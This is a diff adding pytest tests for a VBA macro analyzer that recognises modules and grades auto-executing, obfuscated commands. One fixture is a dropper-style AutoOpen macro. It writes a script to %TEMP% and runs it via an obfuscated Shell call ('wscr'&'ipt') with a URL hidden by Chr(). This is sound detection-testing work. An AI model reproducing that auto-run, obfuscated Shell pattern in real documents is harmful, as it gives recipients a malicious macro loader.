@@ -1,0 +1,99 @@
+"""VBA source files: recognised by what only VBA has, read alone or as a part of their project."""
+
+import pytest
+
+from sekisho.analyzers.vba import HEAD, analyze, is_vba
+from sekisho.model.artifact import Artifact, Feature
+from sekisho.model.errors import LimitError, MalformedError
+from sekisho.model.url import Url
+
+
+def read(source, name="a.bas", relation="input"):
+    features, children, error = {}, [], None
+    try:
+        for one in analyze(Artifact(name, source.encode(), name, relation=relation)):
+            if isinstance(one, Feature):
+                features.setdefault(one.name, []).append(one.value)
+            else:
+                children.append(one)
+    except (MalformedError, LimitError) as raised:
+        error = raised
+    return features, children, error
+
+
+SOURCE = r"""Attribute VB_Name = "Loader"
+Sub AutoOpen()
+    p = Environ("TEMP") & "\a.vbs"
+    Open p For Output As #1
+    Print #1, "MsgBox ""written"" "
+    Close #1
+    Shell "wscr" & "ipt " & p & " http://192.0.2.7/" & Chr(97), 0
+End Sub
+"""
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "expected"),
+    [
+        ("x", b'Attribute VB_Name = "A"\r\nSub x()\r\nEnd Sub', True),
+        ("x.txt", b"Dim a As String\nSub x()\nEnd Sub", True),
+        ("x.txt", b"Private Sub Workbook_Open()\nEnd Sub", True),
+        ("x.bas", b"Sub x()\nEnd Sub", True),
+        ("x.vbs", b"Sub x()\nEnd Sub", False),
+        ("x.txt", b"Sub x()\nEnd Sub", False),
+        ("x.html", b"<html><script>Sub AutoOpen()\nEnd Sub</script>", False),
+        ("x.bas", b"10 PRINT", False),
+        ("x", b"Attribute VB_Name\0", False),
+        ("x", 'Attribute VB_Name = "A"'.encode("utf-16"), True),
+        ("x", b"VBA MACRO a.bas \nin file: x - OLE stream: 'VBA/a'\n", True),
+    ],
+)
+def test_recognised(name, data, expected):
+    assert is_vba(Artifact(name, data, name)) is expected
+
+
+def test_a_bare_file_is_assessed():
+    features, children, error = read(SOURCE)
+    assert features["vba.module"] == ["Loader"]
+    assert features["macro.grade"] == ["obfuscated_exec"]
+    assert features["vba.autoexec"] == ["AutoOpen"]
+    assert features["vba.commands"] == ["wscript %TEMP%\\a.vbs http://192.0.2.7/a"]
+    assert features["vba.calls"] == ["writes %TEMP%\\a.vbs", f"starts {features['vba.commands'][0]}"]
+    assert "Shell" in features["vba.keywords"]
+    assert 'Shell("' in features["vba.unfolded"][0] or 'shell("' in features["vba.unfolded"][0]
+    url = features["url"][0]
+    assert isinstance(url, Url)
+    assert (url.canonical, url.where) == ("http://192.0.2.7/a", "macro")
+    assert "char-code" in url.hidden_by
+    assert [(child.name, child.kind, child.relation, child.data) for child in children] == [
+        ("Shell", "cmd", "decoded", b"wscript %TEMP%\\a.vbs http://192.0.2.7/a"),
+        ("a.vbs", "", "decoded", b'MsgBox "written" \r\n'),
+    ]
+    assert error is None
+
+
+def test_a_module_of_a_project_only_says_what_it_holds():
+    features, children, _ = read(SOURCE, relation="macro")
+    assert set(features) == {"vba.module", "vba.autoexec", "vba.keywords"}
+    assert children == []
+
+
+def test_a_text_report_is_read_module_by_module():
+    line = "- " * 39
+    text = (
+        f"FILE: a.doc\nType: OLE\n{'-' * 79}\nVBA MACRO ThisDocument.cls \nin file: a.doc - OLE stream: 'x'\n{line}\n"
+        f"Sub Document_Open()\n  Helper\nEnd Sub\n{'-' * 79}\nVBA MACRO m.bas \nin file: a.doc - OLE stream: 'y'\n{line}\n"
+        f'Sub Helper()\n  Shell "tool.exe"\nEnd Sub\n+{"-" * 10}+{"-" * 20}+{"-" * 45}+\n|Type|\n'
+    )
+    features, _, _ = read(text, "report.txt")
+    assert features["macro.grade"] == ["auto_exec"]
+    assert features["vba.commands"] == ["tool.exe"]
+
+
+def test_limits_are_named():
+    features, _, error = read('Sub AutoOpen()\nx = "a"\nDo\nx = x & "b"\nShell "t.exe"\nLoop\nEnd Sub')
+    assert features["macro.grade"] == ["auto_exec"]
+    assert isinstance(error, LimitError)
+    _, _, error = read('Attribute VB_Name = "A"\r\n' + "' x\n" * 200_000)
+    assert isinstance(error, LimitError)
+    assert is_vba(Artifact("a.bas", b"Sub x()\nEnd Sub" + bytes([32]) * HEAD, "a.bas"))
